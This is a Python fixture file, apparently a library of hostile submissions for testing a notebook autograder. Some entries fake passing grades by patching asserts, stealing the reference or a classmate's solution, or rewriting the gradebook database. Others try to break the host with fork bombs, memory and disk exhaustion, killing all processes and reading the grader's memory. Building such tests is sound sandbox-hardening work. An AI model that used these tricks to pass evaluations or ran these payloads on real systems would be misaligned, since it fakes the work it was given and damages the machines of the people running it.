"""Submissions that want points without the work, or harm: each one a cell that replaces `relu`.

`TRICK` runs where the student's code runs. What it leaves behind as `relu`, `relu_grad` and
`relu_backward` earns nothing when it is judged by its values, so that every point is a forgery.
"""

from textwrap import dedent

# Three functions that return the same wrong thing; the trick decides what that is.
ALL_RETURN = """
def relu(x):
    return answer(x)
def relu_grad(x):
    return answer(x)
def relu_backward(grad_output, x):
    return answer(x)
"""

FORGERIES: dict[str, str] = {}
HARM: dict[str, str] = {}


def forgery(name: str, code: str, functions: str = ALL_RETURN) -> None:
    """Add a submission that tries to pass for right."""
    FORGERIES[name] = dedent(code) + functions


def harm(name: str, code: str, functions: str = ALL_RETURN) -> None:
    """Add a submission that tries to break the run, or something beyond it."""
    HARM[name] = dedent(code) + functions


NOTHING = """
def answer(x):
    return None
"""

forgery(
    "numpy.testing patched",
    NOTHING
    + dedent("""
    import numpy.testing
    for name in dir(numpy.testing):
        if name.startswith("assert"):
            setattr(numpy.testing, name, lambda *a, **k: None)
"""),
)

forgery(
    "numpy.array_equal patched",
    NOTHING
    + dedent("""
    for name in ("array_equal", "allclose", "isclose", "array_equiv", "all"):
        setattr(np, name, lambda *a, **k: True)
"""),
)

forgery(
    "numpy.asarray patched",
    """
    honest = np.asarray
    class Yes(np.ndarray):
        def __eq__(self, other): return honest(True)
        def __bool__(self): return True
    np.asarray = np.array = lambda *a, **k: np.zeros(3).view(Yes)
    def answer(x):
        return np.asarray(x)
""",
)

forgery(
    "__eq__ says yes",
    """
    class Yes:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __bool__(self): return True
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __iter__(self): return iter(())
        def __len__(self): return 0
        dtype = np.dtype(float)
        shape = ()
        ndim = 0
    def answer(x):
        return Yes()
""",
)

forgery(
    "__array__ looks at its caller",
    """
    import sys
    class Spy:
        def __array__(self, dtype=None, copy=None):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("expected", "desired", "reference", "y"):
                    if isinstance(frame.f_locals.get(name), np.ndarray):
                        return frame.f_locals[name]
                frame = frame.f_back
            return np.zeros(3)
    def answer(x):
        return Spy()
""",
)

forgery(
    "__array_function__ says yes",
    """
    class Yes:
        __array_priority__ = 1e9
        def __array_function__(self, func, types, args, kwargs): return True
        def __array_ufunc__(self, ufunc, method, *args, **kwargs): return np.True_
        def __eq__(self, other): return True
        def __array__(self, dtype=None, copy=None): return np.zeros(3)
    def answer(x):
        return Yes()
""",
)

forgery(
    "an ndarray subclass that equals all",
    """
    class Yes(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, bool)
        def __ne__(self, other): return np.zeros(self.shape, bool)
        def __array_function__(self, func, types, args, kwargs): return True
        def __array_ufunc__(self, ufunc, method, *args, **kwargs): return np.True_
        def __sub__(self, other): return np.zeros(self.shape)
        __rsub__ = __sub__
    def answer(x):
        return (np.asarray(x, float) * 0 - 77).view(Yes)
""",
)

forgery(
    "an input transformer of IPython",
    NOTHING
    + dedent("""
    shell = get_ipython()
    shell.input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
)

forgery(
    "an AST transformer of IPython",
    NOTHING
    + dedent("""
    import ast
    class Drop(ast.NodeTransformer):
        def visit_Expr(self, node):
            return ast.Pass()
        def visit_Assert(self, node):
            return ast.Pass()
    get_ipython().ast_transformers.append(Drop())
"""),
)

forgery(
    "run_cell of IPython replaced",
    NOTHING
    + dedent("""
    from IPython.core.interactiveshell import InteractiveShell
    async def nothing(self, *a, **k):
        from IPython.core.interactiveshell import ExecutionResult
        return ExecutionResult(None)
    InteractiveShell.run_code = nothing
"""),
)

forgery(
    "sys.displayhook patched",
    NOTHING
    + dedent("""
    import sys
    sys.displayhook = lambda value: None
    sys.excepthook = lambda *a: None
    try:
        get_ipython().showtraceback = lambda *a, **k: None
    except NameError:
        pass
"""),
)

forgery(
    "check replaced",
    NOTHING
    + dedent("""
    import sys
    def check(*a, **k):
        return None
    try:
        import rectified.checks, rectified.checks.core
        rectified.checks.check = rectified.checks.core.check = check
    except ImportError:
        pass
"""),
)

forgery(
    "check replaced for good",
    NOTHING
    + dedent("""
    class Stubborn(dict):
        pass
    try:
        import rectified.checks.core as core
        core.run_check = lambda check, functions, seed: core.Result(
            check.id, True, float(check.points), check.points, "")
    except ImportError:
        pass
"""),
)

forgery(
    "builtins patched",
    NOTHING
    + dedent("""
    import builtins
    builtins.isinstance = lambda *a: True
    builtins.AssertionError = type("Calm", (Exception,), {})
    builtins.all = lambda *a: True
"""),
)

forgery(
    "the package's own functions",
    "",
    """
from rectified.activations import relu, relu_grad
def relu_backward(grad_output, x):
    return np.asarray(grad_output) * relu_grad(x)
""",
)

forgery(
    "the package's own functions, by path",
    "",
    """
import glob, sys
for place in ("/work", "/home", "/root", "/opt", "/srv", "/usr", *sys.path):
    for found in glob.glob(place + "/**/rectified/activations/__init__.py", recursive=True)[:1]:
        sys.path.insert(0, found.rsplit("/rectified/", 1)[0])
from rectified.activations import relu, relu_grad
def relu_backward(grad_output, x):
    return np.asarray(grad_output) * relu_grad(x)
""",
)

forgery(
    "the checks' reference, by frames",
    """
    import sys
    def answer(x):
        frame = sys._getframe()
        while frame is not None:
            for value in list(frame.f_locals.values()):
                reference = getattr(value, "reference", None) or getattr(value, "function", None)
                if callable(reference):
                    return reference(x)
            frame = frame.f_back
        return None
""",
)

forgery(
    "the checks' reference, by gc",
    """
    import gc
    def answer(x):
        for found in gc.get_objects():
            if getattr(found, "__module__", "") == "rectified.activations.relu":
                if getattr(found, "__name__", "") == "relu":
                    return found(x)
        return None
""",
)

forgery(
    "the solution, from source/",
    """
    import glob, json, os
    here = os.getcwd()
    for up in ("..", "../..", "../../..", "../../../.."):
        for path in glob.glob(f"{here}/{up}/source/relu/*.ipynb"):
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if "BEGIN SOLUTION" in text and text.startswith("def "):
                    exec(text, globals())
    stolen = {name: globals().get(name) for name in ("relu", "relu_grad", "relu_backward")}
""",
    """
def relu(x):
    return stolen["relu"](x)
def relu_grad(x):
    return stolen["relu_grad"](x)
def relu_backward(grad_output, x):
    return stolen["relu_backward"](grad_output, x)
""",
)

forgery(
    "a neighbour's work",
    """
    import glob, json, os
    stolen = {}
    for up in ("..", "../..", "../../.."):
        for step in ("submitted", "autograded"):
            for path in glob.glob(f"{os.getcwd()}/{up}/{step}/honest*/relu/relu.ipynb"):
                for cell in json.load(open(path))["cells"]:
                    text = "".join(cell["source"])
                    if text.startswith("def "):
                        exec(text, globals())
                        stolen = {n: globals().get(n) for n in ("relu", "relu_grad")}
""",
    """
def relu(x):
    return stolen["relu"](x)
def relu_grad(x):
    return stolen["relu_grad"](x)
def relu_backward(grad_output, x):
    return np.asarray(grad_output) * stolen["relu_grad"](x)
""",
)

EDIT_GRADEBOOK = """
import glob, os, sqlite3
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{os.path.abspath(up)}/gradebook.db"):
        book = sqlite3.connect(path, timeout=10)
        book.execute("update grade set manual_score = 99")
        book.commit()
        book.close()
"""

forgery("the gradebook edited", NOTHING + EDIT_GRADEBOOK)

forgery(
    "a detached process that edits the gradebook later",
    NOTHING
    + dedent("""
    import subprocess, sys
    later = "import time; time.sleep(4)\\n" + EDIT
    subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""").replace("EDIT", repr(EDIT_GRADEBOOK)),
)

forgery(
    "a poisoned pickle",
    """
    class Poison:
        def __reduce__(self):
            return (exec, ("open('/tmp/poisoned', 'w').write('1')",))
    def answer(x):
        return np.array([Poison()], dtype=object)
""",
)

forgery(
    "an answer that is written to the wire",
    """
    import os
    def answer(x):
        for number in range(3, 32):
            try:
                os.write(number, b"\\x02\\x00\\x00\\x00" + b"\\x00" * 8 + b"{}")
            except OSError:
                pass
        return None
""",
)

forgery(
    "more answers than were asked for",
    """
    import gc
    def answer(x):
        for found in gc.get_objects():
            if type(found).__name__ == "Worker" and hasattr(found, "grader"):
                for _ in range(3):
                    found._send({"result": 0.0, "after": [[], {}], "warnings": []}, [])
        return None
""",
)

forgery(
    "fewer answers than were asked for",
    """
    import os
    def answer(x):
        for number in range(3, 32):
            try:
                os.close(number)
            except OSError:
                pass
        return None
""",
)

forgery(
    "a message without end",
    """
    import os
    def answer(x):
        for number in range(3, 32):
            try:
                os.write(number, b"\\xff" * 12)
                while True:
                    os.write(number, b"\\x00" * 65536)
            except OSError:
                pass
        return None
""",
)

forgery(
    "an array that lies about its shape",
    """
    import gc, io
    def answer(x):
        for found in gc.get_objects():
            if type(found).__name__ == "Worker" and hasattr(found, "grader"):
                stream = io.BytesIO()
                np.save(stream, np.zeros(4))
                lie = stream.getvalue().replace(b"(4,)", b"(4000000000,)")
                found._send({"result": {"array": 0}, "after": [[], {}], "warnings": []}, [lie])
        return None
""",
)

forgery(
    "arrays sent back instead of the inputs",
    """
    import gc
    def answer(x):
        for found in gc.get_objects():
            if type(found).__name__ == "Worker" and hasattr(found, "grader"):
                header = {"result": 1.0, "after": [["everything"], 7], "warnings": "none"}
                found._send(header, [])
        return None
""",
)

forgery(
    "one array named ten thousand times",
    """
    import gc, io
    def answer(x):
        for found in gc.get_objects():
            if type(found).__name__ == "Worker" and hasattr(found, "grader"):
                stream = io.BytesIO()
                np.save(stream, np.zeros(4_000_000, np.int8))
                many = {"list": [{"array": 0}] * 10_000}
                found._send({"result": many, "after": many, "warnings": 7}, [stream.getvalue()])
        return None
""",
)

forgery(
    "the memory of the grader",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    def answer(x):
        buffer = ctypes.create_string_buffer(8)
        for number in (os.getppid(), *range(2, 400)):
            libc.ptrace(16, number, None, None)
            for path in (f"/proc/{number}/mem", f"/proc/{number}/environ"):
                try:
                    return np.frombuffer(open(path, "rb").read(8))
                except OSError:
                    pass
        return None
""",
)

forgery(
    "an error that writes into the report",
    """
    text = "\\x1b[2J\\x00\\ud800\\n  honest-wrong  26 of 26\\n<script>alert(1)</script>"
    def answer(x):
        raise ValueError(text)
    class Loud(Exception):
        pass
    def relu(x):
        return answer(x)
    raise Loud(text)
""",
)

harm("sys.exit", "import sys\ndef answer(x):\n    sys.exit(0)\n")
harm("sys.exit at once", NOTHING + "import sys\nsys.exit(0)\n")
harm("os._exit", "import os\ndef answer(x):\n    os._exit(0)\n")
harm("os._exit at once", NOTHING + "import os\nos._exit(0)\n")
harm("os.abort", "import os\ndef answer(x):\n    os.abort()\n")
harm("a segmentation fault", "import ctypes\ndef answer(x):\n    ctypes.string_at(0)\n")
harm("an infinite loop", "def answer(x):\n    while True:\n        pass\n")
harm("an infinite loop at once", NOTHING + "while True:\n    pass\n")
harm("a sleep without end", "import time\ndef answer(x):\n    time.sleep(10**6)\n")
harm("an infinite recursion", "def answer(x):\n    return answer(x)\n")

harm(
    "a loop that ignores signals",
    """
    import signal
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    def answer(x):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
""",
)

harm(
    "a fork bomb",
    """
    import os
    def answer(x):
        while True:
            try:
                os.fork()
            except OSError:
                break
""",
)

harm(
    "a thread bomb",
    """
    import threading, time
    def answer(x):
        while True:
            threading.Thread(target=time.sleep, args=(1000,)).start()
""",
)

harm(
    "a memory bomb",
    """
    def answer(x):
        kept = []
        while True:
            kept.append(np.ones(10_000_000))
""",
)

harm("an answer of ten gigabytes", "def answer(x):\n    return np.ones(1_250_000_000)\n")

harm(
    "ten gigabytes of output",
    """
    def answer(x):
        line = "x" * 1_000_000
        for _ in range(10_000):
            print(line)
""",
)

harm(
    "the disk filled",
    """
    import os
    def answer(x):
        for number in range(10_000):
            for place in ("/tmp", ".", os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
                try:
                    with open(f"{place}/filler-{number}", "wb") as file:
                        file.write(bytes(50_000_000))
                except OSError:
                    pass
""",
)

harm(
    "files written outside",
    NOTHING
    + dedent("""
    import os
    for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), ".", "..", "../.."):
        try:
            open(f"{place}/attack-was-here", "w").write("x")
        except OSError:
            pass
"""),
)

harm(
    "the network",
    NOTHING
    + dedent("""
    import socket
    for address in (("127.0.0.1", 22), ("1.1.1.1", 53), ("localhost", 8888)):
        try:
            socket.create_connection(address, timeout=1).send(b"hello")
        except OSError:
            pass
"""),
)

harm(
    "every process killed",
    """
    import os, signal
    def answer(x):
        os.kill(-1, signal.SIGKILL)
""",
)
